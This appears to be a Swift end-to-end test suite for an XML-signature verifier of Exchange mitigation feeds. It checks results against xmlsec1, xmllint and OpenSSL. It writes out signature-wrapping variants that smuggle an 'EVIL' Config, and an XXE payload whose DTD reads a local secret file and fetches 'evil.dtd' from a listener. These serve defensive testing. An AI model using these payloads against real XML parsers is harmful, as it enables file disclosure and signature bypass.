import Foundation
import OCSTestSupport
import Testing

/// `ocs verify` through the real binary, with xmlsec1, xmllint and OpenSSL as the independent judges.
@Suite(.serialized)
struct VerifyEndToEndTests {
    /// `xmlsec1 --verify` pinned to `trusted`, judging certificates at `time` ("YYYY-MM-DD hh:mm:ss").
    func xmlsec(_ file: String, trusting trusted: String, at time: String? = nil) throws -> CommandResult {
        try Command.run("xmlsec1", ["--verify", "--enabled-key-data", "x509", "--trusted-pem", trusted]
            + (time.map { ["--verification-time", $0] } ?? []) + [file])
    }

    /// A failure is reported as exactly one line, never a crash.
    func expectOneLineFailure(_ result: CommandResult, containing expected: String, _ comment: String = "", sourceLocation: SourceLocation = #_sourceLocation) {
        #expect(result.status == 1, "\(comment): exit \(result.status)", sourceLocation: sourceLocation)
        let lines = result.stderr.split(separator: "\n")
        #expect(lines.count == 1, "\(comment): \(result.stderr)", sourceLocation: sourceLocation)
        #expect(result.stderr.contains(expected), "\(comment): \(result.stderr)", sourceLocation: sourceLocation)
        #expect(result.output.isEmpty, "\(comment): printed \(result.output)", sourceLocation: sourceLocation)
    }

    @Test func microsoftsFeedVerifiesAtItsSigningTimeAsXmlsec1Agrees() throws {
        try #require(FileManager.default.fileExists(atPath: SharedData.microsoftFeed), "the reference material ../shared is missing beside the checkout")
        let workspace = try Workspace()
        let feed = SharedData.microsoftFeed, root = SharedData.microsoftRoot

        let verified = try workspace.ocs("verify", feed, "--ca", root, "--at", SharedData.microsoftFeedSigningTime)
        #expect(verified.status == 0, "\(verified.stderr)")
        #expect(verified.output.contains("configs PING1, signed by CN=Microsoft Exchange XML Signing,"), "\(verified.output)")
        #expect(try xmlsec(feed, trusting: root, at: "2021-09-15 16:42:08").status == 0)

        let today = try workspace.ocs("verify", feed, "--ca", root)
        expectOneLineFailure(today, containing: "the signing certificate CN=Microsoft Exchange XML Signing,")
        #expect(today.stderr.contains("expired on 2022-06-09: pass --at TIME to judge it at the time it was signed, or --timestamp-ca PEM (--microsoft)"), "\(today.stderr)")
        #expect(!today.stderr.contains("Certificate("), "no certificate structure: \(today.stderr)")
        #expect(try xmlsec(feed, trusting: root).status != 0, "xmlsec1 also refuses it today")

        var bytes = try Data(contentsOf: URL(fileURLWithPath: feed))
        let position = try #require(bytes.range(of: Data("Heartbeat".utf8))).lowerBound
        bytes[position] = UInt8(ascii: "h")
        let changedFile = workspace.folder.appendingPathComponent("changed.xml").path
        try bytes.write(to: URL(fileURLWithPath: changedFile))
        let changed = try workspace.ocs("verify", changedFile, "--ca", root, "--at", SharedData.microsoftFeedSigningTime)
        expectOneLineFailure(changed, containing: "the digest does not match")
        #expect(try xmlsec(changedFile, trusting: root, at: "2021-09-15 16:42:08").status != 0)

        let badTime = try workspace.ocs("verify", feed, "--ca", root, "--at", "15/09/2021")
        #expect(badTime.status == 64)
        #expect(badTime.stderr.contains("--at '15/09/2021' is not an ISO 8601 time"), "\(badTime.stderr)")
    }

    /// The base64 text of `element` in `document` (its first occurrence), decoded.
    func base64Element(_ element: String, in document: String) throws -> Data {
        let start = try #require(document.range(of: "<\(element)[^>]*>", options: .regularExpression))
        let end = try #require(document.range(of: "</\(element)>", range: start.upperBound..<document.endIndex))
        return try #require(Data(base64Encoded: document[start.upperBound..<end.lowerBound].filter { !$0.isWhitespace }))
    }

    /// Microsoft's feed verifies today by its time stamp, with the roots ocs ships or given as files;
    /// OpenSSL, judging the token on its own, finds the same authority, time and imprint.
    @Test func microsoftsFeedVerifiesTodayByItsTimeStampAsOpenSSLAgrees() throws {
        let workspace = try Workspace()
        let feed = RepositoryFixtures.microsoftFeed.path
        let codeSigningRoot = RepositoryFixtures.microsoftCodeSigningRoot.path, timeStampingRoot = RepositoryFixtures.microsoftTimeStampingRoot.path
        let stamped = "; time-stamped 2021-09-15T16:42:08.621Z by CN=Microsoft Time-Stamp Service,"
        for arguments in [["--microsoft"], ["--ca", codeSigningRoot, "--timestamp-ca", timeStampingRoot]] {
            let verified = try workspace.ocs(["verify", feed] + arguments)
            #expect(verified.status == 0, "\(arguments): \(verified.stderr)")
            #expect(verified.output.contains("configs PING1, signed by CN=Microsoft Exchange XML Signing,"), "\(verified.output)")
            #expect(verified.output.contains(stamped), "\(verified.output)")
        }

        // OpenSSL's cms reads the token (its ts command cannot: the obsolete attribute certificate
        // in it), checks its signature and the authority's chain at the stamped time, and writes the
        // TSTInfo. `-purpose any`: OpenSSL's timestampsign purpose wants the authority's extended
        // key usage marked critical, as RFC 3161 says; Microsoft's is not, and Windows does not ask.
        let document = String(decoding: try Data(contentsOf: URL(fileURLWithPath: feed)), as: UTF8.self)
        let token = try base64Element("CounterSignature", in: document)
        let signatureValue = try base64Element("SignatureValue", in: document)
        let tokenFile = workspace.folder.appendingPathComponent("token.der").path, tstInfo = workspace.folder.appendingPathComponent("tstinfo.der").path
        let signatureValueFile = workspace.folder.appendingPathComponent("signature-value.bin").path
        try token.write(to: URL(fileURLWithPath: tokenFile))
        try signatureValue.write(to: URL(fileURLWithPath: signatureValueFile))
        let openssl = { (token: String) in
            try Command.run("openssl", ["cms", "-verify", "-inform", "DER", "-in", token, "-CAfile", timeStampingRoot,
                                        "-attime", "1631724128", "-purpose", "any", "-out", tstInfo])
        }
        let judged = try openssl(tokenFile)
        #expect(judged.status == 0, "\(judged.stderr)")
        let parsed = try Command.run("openssl", ["asn1parse", "-inform", "DER", "-in", tstInfo]).output
        #expect(parsed.contains("GENERALIZEDTIME   :20210915164208.621Z"), "\(parsed)")
        let digest = try Command.run("openssl", ["dgst", "-sha256", "-r", signatureValueFile]).output.prefix(64).uppercased()
        #expect(digest.count == 64 && parsed.contains("[HEX DUMP]:\(digest)"), "the imprint is the SignatureValue's SHA-256 \(digest): \(parsed)")
        #expect(try openssl(tokenFile).status == 0)
        #expect(try Command.run("openssl", ["cms", "-verify", "-inform", "DER", "-in", tokenFile, "-CAfile", codeSigningRoot,
                                            "-attime", "1631724128", "-purpose", "any", "-out", tstInfo]).status != 0, "OpenSSL refuses the 2011 root too")

        // One byte of the token's signature changed: the feed's own signature still verifies (the
        // Object is outside it), but the stamp does not, for ocs and for OpenSSL.
        var altered = token
        altered[altered.count - 104] ^= 0x01
        let alteredDocument = document.replacingOccurrences(of: token.base64EncodedString(), with: altered.base64EncodedString())
        #expect(alteredDocument != document, "the CounterSignature holds the token as one line of base64")
        let alteredFeed = try workspace.write(alteredDocument, to: "altered-stamp.xml")
        expectOneLineFailure(try workspace.ocs("verify", alteredFeed, "--microsoft"),
                             containing: "not verified: the signature's time stamp does not verify: the time-stamp token's signature does not verify with the key of CN=Microsoft Time-Stamp Service,")
        #expect(try workspace.ocs("verify", alteredFeed, "--ca", codeSigningRoot, "--at", SharedData.microsoftFeedSigningTime).status == 0,
                "without --timestamp-ca the stamp is not read")
        let alteredToken = workspace.folder.appendingPathComponent("altered-token.der").path
        try altered.write(to: URL(fileURLWithPath: alteredToken))
        #expect(try openssl(alteredToken).status != 0, "OpenSSL refuses the altered token too")

        expectOneLineFailure(try workspace.ocs("verify", feed, "--ca", codeSigningRoot, "--timestamp-ca", codeSigningRoot),
                             containing: "the time-stamping authority CN=Microsoft Time-Stamp Service,")
        let both = try workspace.ocs("verify", feed, "--microsoft", "--timestamp-ca", timeStampingRoot)
        #expect(both.status == 64 && both.stderr.contains("--microsoft pins Microsoft's time-stamping root already"), "\(both.stderr)")
    }

    @Test func ourFeedVerifiesAtAGivenTimeAsXmlsec1Agrees() throws {
        let workspace = try Workspace()
        let server = try workspace.startServer()
        defer { server.stop() }
        let certificate = workspace.folder.appendingPathComponent("data/dev-signing-cert.pem").path
        let file = try workspace.write(try Curl.request(server.baseURL + "/getexchangemitigations?build=15.1.2507.6").text, to: "feed.xml")
        let inAMinute = Date().addingTimeInterval(60)
        let iso = inAMinute.formatted(.iso8601)
        let xmlsecTime = iso.replacingOccurrences(of: "T", with: " ").replacingOccurrences(of: "Z", with: "")
        let verified = try workspace.ocs("verify", file, "--cert", certificate, "--at", iso)
        #expect(verified.status == 0, "\(verified.stderr)")
        #expect(verified.output.contains("configs M1,PING1,"), "\(verified.output)")
        #expect(try xmlsec(file, trusting: certificate, at: xmlsecTime).status == 0)

        // Years later the development certificate has expired for both verifiers.
        let later = try workspace.ocs("verify", file, "--cert", certificate, "--at", "2099-01-01T00:00:00Z")
        expectOneLineFailure(later, containing: "expired on")
        #expect(try xmlsec(file, trusting: certificate, at: "2099-01-01 00:00:00").status != 0)
    }

    /// Every attack from the issue, made by editing a validly signed feed, through the binary.
    @Test func onlySignedContentCounts() throws {
        let workspace = try Workspace()
        let server = try workspace.startServer()
        defer { server.stop() }
        let certificate = workspace.folder.appendingPathComponent("data/dev-signing-cert.pem").path
        let signed = try Curl.request(server.baseURL + "/getexchangemitigations?build=15.1.2507.6").text
        let evil = "<Config xmlns=\"\" id=\"EVIL\"><ActionList></ActionList></Config>"
        let end = try #require(signed.range(of: "</EOCS>"))
        let attacks: [(String, String, String)] = [
            ("a Config in an Object", signed.replacingOccurrences(of: "</KeyInfo></Signature>", with: "</KeyInfo><Object>\(evil)</Object></Signature>"),
             "the signature's Object may hold only X509Data and a time-stamp CounterSignature"),
            ("a Config in KeyInfo", signed.replacingOccurrences(of: "</X509Data></KeyInfo>", with: "</X509Data>\(evil)</KeyInfo>"),
             "which the signature profile does not allow"),
            ("a second root", signed + "<EOCS>\(evil)</EOCS>\n", "a second root element <EOCS>"),
            ("a cut-off document", String(signed[..<end.lowerBound]), "the document ends inside <EOCS>"),
            ("trailing text", signed + "EVIL\n", "text after </EOCS>"),
            ("a processing instruction before the root", signed.replacingOccurrences(of: "<EOCS ", with: "<?evil run?>\n<EOCS "), "a processing instruction"),
            ("an empty file", "", "the file is empty"),
        ]
        for (name, document, expected) in attacks {
            #expect(document != signed, "\(name): the edit applied")
            let file = try workspace.write(document, to: "attack.xml")
            expectOneLineFailure(try workspace.ocs("verify", file, "--cert", certificate), containing: expected, name)
        }

        // The smuggled Config is outside the signed reference: xmlsec1 still verifies the
        // document and xmllint lists the Config beside the signed ones, so only the profile check stops it.
        let smuggled = try workspace.write(attacks[0].1, to: "smuggled.xml")
        #expect(try xmlsec(smuggled, trusting: certificate).status == 0)
        let everyID = try Command.run("xmllint", ["--xpath", "//Config/@id", smuggled]).output
        #expect(everyID.contains("id=\"EVIL\""), "\(everyID)")
    }

    /// The attack: a UTF-16 document whose DTD fetches an external entity from a listener.
    @Test func aUTF16DoctypeIsRefusedAndNothingIsFetched() throws {
        let workspace = try Workspace()
        let server = try workspace.startServer()
        defer { server.stop() }
        let certificate = workspace.folder.appendingPathComponent("data/dev-signing-cert.pem").path
        let listener = try LoopbackListener()
        defer { listener.stop() }
        let signed = try Curl.request(server.baseURL + "/getexchangemitigations?build=15.1.2507.6").text
        let secret = try workspace.write("the secret\n", to: "secret.txt")
        let document = signed.replacingOccurrences(of: "<?xml version=\"1.0\" encoding=\"utf-8\"?>", with: """
            <?xml version="1.0" encoding="UTF-16"?>
            <!DOCTYPE EOCS [<!ENTITY % file SYSTEM "file://\(secret)"><!ENTITY % remote SYSTEM "http://127.0.0.1:\(listener.port)/evil.dtd"> %remote;]>
            """)
        #expect(document != signed)
        let file = workspace.folder.appendingPathComponent("utf16.xml").path
        try (Data([0xFF, 0xFE]) + document.data(using: .utf16LittleEndian)!).write(to: URL(fileURLWithPath: file))

        expectOneLineFailure(try workspace.ocs("verify", file, "--cert", certificate), containing: "the document is UTF-16")
        #expect(listener.requests.isEmpty, "ocs verify connected: \(listener.requests)")
        // The listener and the document are live: libxml2 fetches the external DTD.
        _ = try Command.run("xmllint", ["--noout", "--loaddtd", file], timeout: 30)
        #expect(listener.requests.first?.hasPrefix("GET /evil.dtd") == true, "\(listener.requests)")
    }
}
